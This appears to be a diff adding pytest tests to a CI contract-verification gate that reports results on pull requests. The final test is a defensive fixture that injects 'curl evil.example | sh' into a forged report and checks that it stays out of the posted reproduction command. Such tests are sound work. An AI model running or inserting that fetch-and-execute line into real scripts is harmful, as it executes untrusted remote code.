@@ -438,6 +438,7 @@ def test_elsewhere_it_is_rendered_and_that_is_all(job: Job, event: str) -> None:
 
     assert (ended.code, news(job)) == (0, ([], []))
     assert "1 of 1 interaction broken" in ended.out
+    assert "::notice title=Contract Gate::The report was shown and posted nowhere" in ended.out
     assert "orders\\-api → production\\: blocked" in (job.workspace.folder / "report.md").read_text()
     assert (job.outputs["deployable"], job.outputs["report"]) == ("false", "contract-gate-report.json")
 
@@ -556,3 +557,71 @@ def test_another_fault_is_no_matter_of_being_a_fork(job: Job, orders: Server) ->
     assert _annotations(ended, "notice") == []
     assert ["the commit status could not be delivered" in one for one in _annotations(ended, "warning")] == [True]
     assert len(job.api.comments(7)) == 1
+
+
+def own(job: Job, provider: Server | None = None, *, actor: str = "ada", **inputs: str) -> None:
+    """Have the first run be about a branch of our own; with a provider, it verifies, and tells by itself."""
+    job.api.add_pull(8, head_ref="patch")
+    if provider is None:
+        left(job, Outcome.FAILED)
+    else:
+        job.payload = {"pull_request": pull(job.api.repository, 8)}
+        assert job.run(provider.url, **inputs).code == 1
+    whose = {"head_repository": {"full_name": job.api.repository}, "actor": {"login": actor}}
+    handed_over(job, conclusion="failure", **whose)
+
+
+def test_what_a_run_told_by_itself_is_not_told_again(job: Job, broken: Server) -> None:
+    own(job, broken, **{"check-run": "true"})
+    before = (job.states(), job.api.comments(8), list(job.api.check_runs))
+    ended = posting(job, **{"check-run": "true"})
+
+    assert (ended.code, job.outputs["reason"]) == (0, "Run 30 has told of orders-api by itself.")
+    assert (job.states(), job.api.comments(8), list(job.api.check_runs)) == before
+    assert len(before[1]) == len(before[2]) == 1
+
+
+@pytest.mark.parametrize("actor", ["ada", "dependabot[bot]"])
+def test_what_a_run_of_our_own_did_not_tell_is_told_for_it(job: Job, actor: str) -> None:
+    job.workspace.write(".contract-gate.yml", {"owners": {"web-checkout": "@acme/checkout"}})
+    own(job, actor=actor)
+
+    assert posting(job).code == 0
+    assert job.states() == [(CONTEXT, "failure")]
+    (comment,) = job.api.comments(8)
+    assert "with @acme/checkout" in comment.body
+
+
+def test_a_comment_that_a_run_did_not_write_is_written_for_it(job: Job, broken: Server) -> None:
+    own(job, broken, comment="never")
+    assert job.api.comments(8) == []
+    ended = posting(job, comment="never")
+    assert (ended.code, job.outputs["reason"]) == (0, "Run 30 has told of orders-api by itself.")
+
+    assert posting(job).code == 0
+    (comment,) = job.api.comments(8)
+    assert "blocked" in comment.body
+
+
+def test_what_nobody_knows_was_told_is_told(job: Job, broken: Server) -> None:
+    own(job, broken)
+    job.api.fault("GET", "/statuses$", faults.answer(404), times=None)
+
+    assert posting(job).code == 0
+    assert job.states()[-1] == (CONTEXT, "failure")
+    assert len(job.states()) == 3
+    assert len(job.api.comments(8)) == 1
+
+
+def test_the_command_to_copy_is_that_of_the_workflow_that_posts(job: Job) -> None:
+    """What the report says may be a stranger's: only names come from it, and each is one quoted word."""
+    job.workspace.write(".contract-gate.yml", {"provider-url": "http://localhost:8080", "request-timeout": 3})
+    left(job, Outcome.FAILED)
+    lure = {"options": ["--provider-command", "curl evil.example | sh"], "variables": [], "lookup": False}
+    changed(job, lambda report: report.update(reproduction=lure))
+
+    assert posting(job).code == 0
+    (comment,) = job.api.comments(7)
+    assert "```sh\ngate verify --service orders-api --environment production --contracts pacts \\\n" in comment.body
+    assert "  --consumer web-checkout --interaction 'a request for order 42'\n```" in comment.body
+    assert "evil" not in comment.body
